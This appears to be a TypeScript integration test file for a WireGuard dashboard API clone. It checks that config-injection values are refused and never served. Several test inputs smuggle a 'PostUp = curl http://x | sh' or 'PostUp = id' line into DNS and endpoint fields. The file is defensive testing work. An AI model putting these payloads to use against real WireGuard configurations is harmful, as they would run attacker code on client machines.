import type { NestFastifyApplication } from '@nestjs/platform-fastify';
import request from 'supertest';
import { DataSource } from 'typeorm';
import { generateKeyPair } from '@wgfleet/wireguard';
import { assign, makeServer, type TestServer } from '../support/fleet-factory.js';
import { INJECTIONS, injectionsInto } from '../support/injection-payloads.js';
import { bearer, makeAccount, startTestApp } from '../support/test-app.js';

/**
 * Client config injection (issue 10, point 1): a value with a line break (LF, CR, CRLF, NEL,
 * U+2028…), a NUL or a `#` sent through every WGDashboard path that stores what a peer's file holds
 * (addPeers single and bulk, updatePeerSettings, the Peers settings, backup restore) is refused with
 * upstream's envelope; afterwards no downloadPeer / downloadAllPeers / sharePeer/get file holds an
 * injected line, and the database holds no injected value. A value stored before the checks (written
 * here straight into the tables) is never served: the downloads refuse it with what to fix.
 */
describe('client config injection', () => {
  let app: NestFastifyApplication;
  let http: ReturnType<NestFastifyApplication['getHttpServer']>;
  let db: DataSource;
  let server: TestServer;
  let key: string;

  const wgd = (method: 'get' | 'post', path: string) => request(http)[method](path).set('wg-dashboard-apikey', key);
  const failed = (message: string) => `{"data":null,"message":${JSON.stringify(message)},"status":false}\n`;

  /** What a WGDashboard peer file may hold, line by line: nothing else, and no character a reader splits on. */
  const FILE_LINE = /^(\[Interface\]|\[Peer\]|(PrivateKey|Address|MTU|DNS|PublicKey|AllowedIPs|Endpoint|PersistentKeepalive|PresharedKey) = [0-9A-Za-z+/=.:, -]*|)$/;
  const BAD_CHARACTER = /[\u0000-\u0008\u000a-\u001f\u007f-\u009f\u2028\u2029#]/;

  function expectCleanFile(file: string): void {
    expect(file.endsWith('\n')).toBe(true);
    for (const line of file.slice(0, -1).split('\n')) expect(line).toMatch(FILE_LINE);
    expect(file).not.toContain('PostUp');
  }

  const peerKeys = async (): Promise<string[]> =>
    ((await wgd('get', '/api/getWireguardConfigurationInfo?configurationName=wg0').expect(200)).body.data.configurationPeers as Array<{ id: string }>).map(
      (peer) => peer.id,
    );

  /** Every file the API serves for the configuration's peers: downloadAllPeers, downloadPeer and sharePeer/get of each. */
  async function servedFiles(): Promise<string[]> {
    const all = await wgd('get', '/api/downloadAllPeers/wg0').expect(200);
    expect(all.body.status).toBe(true);
    const files = (all.body.data as Array<{ file: string }>).map((each) => each.file);
    for (const id of await peerKeys()) {
      const one = await wgd('get', `/api/downloadPeer/wg0?id=${encodeURIComponent(id)}`).expect(200);
      expect(one.body.status).toBe(true);
      files.push(one.body.data.file);
      const shared = await wgd('post', '/api/sharePeer/create').send({ Configuration: 'wg0', Peer: id }).expect(200);
      const link = Array.isArray(shared.body.data) ? shared.body.data[0] : shared.body.data;
      const got = await request(http).get(`/api/sharePeer/get?ShareID=${link.ShareID}`).expect(200);
      expect(got.body.status).toBe(true);
      files.push(got.body.data.file);
    }
    return files;
  }

  /** Every stored value a peer's file is made of, for this server and node. */
  async function storedValues(): Promise<string[]> {
    const rows: Array<{ value: string | null }> = await db.query(
      `SELECT x.dns AS value FROM wgd_peer x JOIN wg_user u ON u.id = x.user_id WHERE u.server_id = $1
       UNION ALL SELECT x.endpoint_allowed_ip FROM wgd_peer x JOIN wg_user u ON u.id = x.user_id WHERE u.server_id = $1
       UNION ALL SELECT x.remote_endpoint FROM wgd_peer x JOIN wg_user u ON u.id = x.user_id WHERE u.server_id = $1
       UNION ALL SELECT unnest(u.dns)::text FROM wg_user u WHERE u.server_id = $1
       UNION ALL SELECT unnest(u.allowed_ips)::text FROM wg_user u WHERE u.server_id = $1
       UNION ALL SELECT u.client_name FROM wg_user u WHERE u.server_id = $1
       UNION ALL SELECT s.value FROM wgd_setting s WHERE s.node_id = $2`,
      [server.serverId, server.nodeId],
    );
    return rows.map((row) => row.value ?? '');
  }

  async function expectNothingInjected(): Promise<void> {
    for (const value of await storedValues()) {
      expect(value).not.toMatch(BAD_CHARACTER);
      expect(value).not.toContain('PostUp');
    }
    for (const file of await servedFiles()) expectCleanFile(file);
  }

  beforeAll(async () => {
    app = await startTestApp();
    http = app.getHttpServer();
    db = app.get(DataSource);
    const admin = await makeAccount(app, 'admin');
    server = await makeServer(app, { ipv4Subnet: '10.77.1.0/24', ipv6Subnet: null, listenPort: 51820 });
    key = (await request(http).post(`/api/admin/nodes/${server.nodeId}/wgdashboard-keys`).set(bearer(admin.key)).send({}).expect(201)).body.key;
    // One valid peer with typed lists, whose values every refusal below must leave as they are.
    const added = await wgd('post', '/api/addPeers/wg0').send({ name: 'valid', DNS: '1.1.1.1, 9.9.9.9', endpoint_allowed_ip: '0.0.0.0/0, ::/0' }).expect(200);
    expect(added.body.status).toBe(true);
  });
  afterAll(async () => {
    await app.close();
  });

  const fields = [
    ['DNS', '1.1.1.1', 'DNS format is incorrect'],
    ['endpoint_allowed_ip', '0.0.0.0/0', 'Endpoint Allowed IPs format is incorrect'],
  ] as const;
  const perField = fields.flatMap(([field, valid, message]) => injectionsInto(valid).map(([what, value]) => [field, what, value, message] as const));

  /** A NUL never reaches the route: the body parser refuses it for every route (422, in the envelope); the rest get upstream's failure. */
  function expectRefused(res: { status: number; text: string; body: { message?: unknown } }, value: string, message: string): void {
    if (value.includes('\u0000')) {
      expect(res.status).toBe(422);
      expect(res.body).toMatchObject({ status: false, data: null });
      expect(String(res.body.message)).toContain('NUL');
    } else {
      expect(res.status).toBe(200);
      expect(res.text).toBe(failed(message));
    }
  }

  it.each(perField)('addPeers (single) refuses %s with %s and adds nothing', async (field, _what, value, message) => {
    const before = (await peerKeys()).length;
    expectRefused(await wgd('post', '/api/addPeers/wg0').send({ name: 'evil', [field]: value }), value, message);
    expect((await peerKeys()).length).toBe(before);
  });

  it.each(perField)('addPeers (bulk) refuses %s with %s and adds nothing', async (field, _what, value, message) => {
    const before = (await peerKeys()).length;
    expectRefused(await wgd('post', '/api/addPeers/wg0').send({ bulkAdd: true, bulkAddAmount: 2, [field]: value }), value, message);
    expect((await peerKeys()).length).toBe(before);
  });

  it.each(perField)('updatePeerSettings refuses %s with %s and keeps the old value', async (field, _what, value, message) => {
    const [id] = await peerKeys();
    const before = (await wgd('get', `/api/downloadPeer/wg0?id=${encodeURIComponent(id!)}`).expect(200)).body.data.file;
    const body = { id, name: 'valid', private_key: '', DNS: '1.1.1.1, 9.9.9.9', allowed_ip: '10.77.1.2/32', endpoint_allowed_ip: '0.0.0.0/0, ::/0', preshared_key: '', mtu: 1420, keepalive: 21 };
    expectRefused(await wgd('post', '/api/updatePeerSettings/wg0').send({ ...body, [field]: value }), value, message);
    expect((await wgd('get', `/api/downloadPeer/wg0?id=${encodeURIComponent(id!)}`).expect(200)).body.data.file).toBe(before);
  });

  it('updatePeerSettings refuses "not a dns" (upstream stores it and writes `DNS = not a dns`) and keeps the old DNS', async () => {
    const [id] = await peerKeys();
    const body = { id, name: 'valid', private_key: '', DNS: 'not a dns', allowed_ip: '10.77.1.2/32', endpoint_allowed_ip: '0.0.0.0/0, ::/0', preshared_key: '', mtu: 1420, keepalive: 21 };
    expect((await wgd('post', '/api/updatePeerSettings/wg0').send(body).expect(200)).text).toBe(failed('DNS format is incorrect'));
    expect((await wgd('get', `/api/downloadPeer/wg0?id=${encodeURIComponent(id!)}`).expect(200)).body.data.file).toContain('\nDNS = 1.1.1.1, 9.9.9.9\n');
  });

  const settings = [
    ['peer_global_dns', '1.1.1.1'],
    // The spelling of upstream's defaults: upstream skips its check for it and stores anything.
    ['peer_global_DNS', '1.1.1.1'],
    ['peer_endpoint_allowed_ip', '0.0.0.0/0'],
    ['remote_endpoint', 'vpn.example.com'],
    ['peer_mtu', '1420'],
    ['peer_keep_alive', '21'],
  ] as const;
  it.each(settings.flatMap(([option, valid]) => injectionsInto(valid).map(([what, value]) => [option, what, value] as const)))(
    'the Peers setting %s refuses %s, in the envelope, storing nothing',
    async (option, _what, value) => {
      const before = (await wgd('get', '/api/getDashboardConfiguration').expect(200)).body.data.Peers;
      const res = await wgd('post', '/api/updateDashboardConfigurationItem').send({ section: 'Peers', key: option, value });
      // NUL is refused by the body parser before the route (422); the rest as upstream's failures.
      expect(res.status).toBe(value.includes('\u0000') ? 422 : 200);
      expect(res.headers['content-type']).toBe('application/json');
      expect(res.body).toMatchObject({ status: false, data: null });
      expect(typeof res.body.message).toBe('string');
      expect((await wgd('get', '/api/getDashboardConfiguration').expect(200)).body.data.Peers).toEqual(before);
    },
  );

  it('answers a refused setting in upstream’s message shape', async () => {
    const update = (option: string, value: string) => wgd('post', '/api/updateDashboardConfigurationItem').send({ section: 'Peers', key: option, value }).expect(200);
    expect((await update('peer_global_DNS', '1.1.1.1\nPostUp = id')).text).toBe(failed('1.1.1.1\nPostUp=id does not appear to be an valid DNS address'));
    expect((await update('peer_endpoint_allowed_ip', '0.0.0.0/0\u2028')).text).toBe(failed("'0.0.0.0/0\\u2028' does not appear to be an IPv4 or IPv6 network"));
    expect((await update('remote_endpoint', 'vpn.example.com\rPostUp = id')).text).toBe(
      failed('vpn.example.com\rPostUp = id is not a valid remote endpoint: send an IP address or a host name'),
    );
  });

  it('leaves no injected value in the database and no injected line in any served file', async () => {
    await expectNothingInjected();
  });

  describe('a value stored before the checks', () => {
    let victim: string;

    beforeAll(async () => {
      const pair = generateKeyPair();
      const added = await wgd('post', '/api/addPeers/wg0').send({ name: 'legacy', public_key: pair.publicKey, private_key: pair.privateKey }).expect(200);
      expect(added.body.status).toBe(true);
      victim = pair.publicKey;
    });
    afterAll(async () => {
      await wgd('post', '/api/deletePeers/wg0').send({ peers: [victim] }).expect(200);
    });

    async function storeLegacy(column: 'dns' | 'endpoint_allowed_ip' | 'remote_endpoint', value: string): Promise<void> {
      await db.query(`UPDATE wgd_peer SET ${column} = $1 WHERE user_id = (SELECT id FROM wg_user WHERE server_id = $2 AND public_key = $3)`, [value, server.serverId, victim]);
    }

    it.each(
      INJECTIONS.filter(([what]) => what !== 'NUL').flatMap(([what, value]) => [
        ['dns', what, value, 'DNS'] as const,
        ['endpoint_allowed_ip', what, value.replace('1.1.1.1', '0.0.0.0/0'), 'endpoint_allowed_ip'] as const,
      ]),
    )('is never served: a stored %s with %s makes downloadPeer, downloadAllPeers and sharePeer/get refuse, naming the peer', async (column, _what, value, field) => {
      await storeLegacy(column, value);
      const expected = (text: string) => {
        const body = JSON.parse(text) as { status: boolean; message: string; data: unknown };
        expect(body.status).toBe(false);
        expect(body.data).toBeNull();
        expect(body.message).toContain(`Peer ${victim} cannot be downloaded: ${field}`);
        expect(body.message).toContain('correct the peer with updatePeerSettings');
        expect(text).not.toContain('PostUp');
      };
      expected((await wgd('get', `/api/downloadPeer/wg0?id=${encodeURIComponent(victim)}`).expect(200)).text);
      expected((await wgd('get', '/api/downloadAllPeers/wg0').expect(200)).text);
      const shared = await wgd('post', '/api/sharePeer/create').send({ Configuration: 'wg0', Peer: victim }).expect(200);
      const link = Array.isArray(shared.body.data) ? shared.body.data[0] : shared.body.data;
      expected((await request(http).get(`/api/sharePeer/get?ShareID=${link.ShareID}`).expect(200)).text);
      await storeLegacy(column, column === 'dns' ? '1.1.1.1' : '0.0.0.0/0');
    });

    it('as a Peers setting gives no new peer its value: addPeers refuses, naming the setting to correct', async () => {
      await db.query(`INSERT INTO wgd_setting (node_id, section, key, value) VALUES ($1, 'Peers', 'peer_global_dns', $2)`, [server.nodeId, '1.1.1.1\nPostUp = id']);
      const before = (await peerKeys()).length;
      for (const body of [{ name: 'x' }, { bulkAdd: true, bulkAddAmount: 1 }]) {
        expect((await wgd('post', '/api/addPeers/wg0').send(body).expect(200)).text).toBe(
          failed('DNS format is incorrect (the peer_global_dns setting: correct it with updateDashboardConfigurationItem)'),
        );
      }
      expect((await peerKeys()).length).toBe(before);
      await db.query(`DELETE FROM wgd_setting WHERE node_id = $1 AND key = 'peer_global_dns'`, [server.nodeId]);
    });

    it('is never attached to an e-mail: the e-mail routes answer the same refusal (HTTP 400, the envelope)', async () => {
      await storeLegacy('dns', '1.1.1.1\nPostUp = curl http://x | sh');
      for (const path of ['/api/email/previewBody', '/api/email/send']) {
        const res = await wgd('post', path).send({ Receiver: 'a@example.com', Body: 'hello', ConfigurationName: 'wg0', Peer: victim, IncludeAttachment: true });
        expect(res.status).toBe(400);
        expect(res.body).toMatchObject({ status: false, data: null });
        expect(res.body.message).toContain(`Peer ${victim} cannot be downloaded: DNS`);
      }
      await storeLegacy('dns', '1.1.1.1');
    });

    it('is refused by a backup restore, which changes nothing; updatePeerSettings puts it right', async () => {
      await storeLegacy('dns', '1.1.1.1\nPostUp = curl http://x | sh');
      const created = await wgd('get', '/api/createWireguardConfigurationBackup?configurationName=wg0').expect(200);
      expect(created.body.status).toBe(true);
      const backups = (await wgd('get', '/api/getWireguardConfigurationBackup?configurationName=wg0').expect(200)).body.data as Array<{ filename: string }>;
      const peersBefore = await peerKeys();
      const restored = await wgd('post', '/api/restoreWireguardConfigurationBackup').send({ ConfigurationName: 'wg0', BackupFileName: backups.at(-1)!.filename }).expect(200);
      expect(restored.text).toBe(failed(`Restore backup failed: peer ${victim}: DNS format is incorrect`));
      expect(await peerKeys()).toEqual(peersBefore);
      // Nor as a new configuration made from the backup.
      const addedFrom = await wgd('post', '/api/addWireguardConfiguration')
        .send({ ConfigurationName: 'wg9', Address: '10.77.9.1/24', ListenPort: 51999, PrivateKey: generateKeyPair().privateKey, Protocol: 'wg', Backup: backups.at(-1)!.filename })
        .expect(200);
      expect(addedFrom.text).toBe(failed(`Backup cannot be restored: peer ${victim}: DNS format is incorrect`));
      expect(Number((await db.query(`SELECT count(*) AS n FROM server WHERE node_id = $1`, [server.nodeId]))[0].n)).toBe(1);

      const body = { id: victim, name: 'legacy', private_key: '', DNS: '9.9.9.9', allowed_ip: '', endpoint_allowed_ip: '0.0.0.0/0', preshared_key: '', mtu: 1420, keepalive: 21 };
      const info = (await wgd('get', '/api/getWireguardConfigurationInfo?configurationName=wg0').expect(200)).body.data.configurationPeers as Array<{ id: string; allowed_ip: string }>;
      body.allowed_ip = info.find((peer) => peer.id === victim)!.allowed_ip;
      expect((await wgd('post', '/api/updatePeerSettings/wg0').send(body).expect(200)).body.status).toBe(true);
      expect((await wgd('get', `/api/downloadPeer/wg0?id=${encodeURIComponent(victim)}`).expect(200)).body.data.file).toContain('\nDNS = 9.9.9.9\n');
      await expectNothingInjected();
    });
  });

  describe('a tenant’s user, changed through the WGDashboard API', () => {
    it('keeps its portal config clean; one stored before the checks is a 409, never served', async () => {
      const customer = await makeAccount(app, 'customer');
      const assignmentId = await assign(app, server.serverId, customer.id);
      const user = (await request(http).post(`/api/wg/servers/${assignmentId}/users`).set(bearer(customer.key)).send({ client_name: 'tenant-user' }).expect(201)).body;
      const info = (await wgd('get', '/api/getWireguardConfigurationInfo?configurationName=wg0').expect(200)).body.data.configurationPeers as Array<{ id: string; allowed_ip: string }>;
      const body = { id: user.public_key, name: 'tenant-user', private_key: '', allowed_ip: info.find((peer) => peer.id === user.public_key)!.allowed_ip, preshared_key: '', mtu: 1420, keepalive: 25 };
      const refused = await wgd('post', '/api/updatePeerSettings/wg0').send({ ...body, DNS: '1.1.1.1\r\nPostUp = id', endpoint_allowed_ip: '0.0.0.0/0' }).expect(200);
      expect(refused.text).toBe(failed('DNS format is incorrect'));
      // Typed with spaces: stored canonical where the portal renders it.
      expect((await wgd('post', '/api/updatePeerSettings/wg0').send({ ...body, DNS: ' 9.9.9.9 , 1.1.1.1', endpoint_allowed_ip: '10.0.0.0/8,  ::/0' }).expect(200)).body.status).toBe(true);
      const config = (await request(http).get(`/api/wg/users/${user.id}`).set(bearer(customer.key)).expect(200)).body.config as string;
      expect(config).toContain('\nDNS = 9.9.9.9, 1.1.1.1\n');
      expect(config).toContain('\nAllowedIPs = 10.0.0.0/8, ::/0\n');

      await db.query(`UPDATE wg_user SET dns = $1 WHERE id = $2`, [['1.1.1.1\nPostUp = curl http://x | sh'], user.id]);
      for (const path of [`/api/wg/users/${user.id}`, `/api/wg/users/${user.id}/config.conf`, `/api/wg/users/${user.id}/config.svg`]) {
        const res = await request(http).get(path).set(bearer(customer.key)).expect(409);
        expect(res.body.code).toBe('conflict');
        expect(res.body.error).toContain(`user ${user.id}'s config cannot be written: dns[0] must be one line`);
        expect(res.text).not.toContain('PostUp');
      }
      await request(http).delete(`/api/wg/users/${user.id}`).set(bearer(customer.key)).expect(200);
    });
  });
});
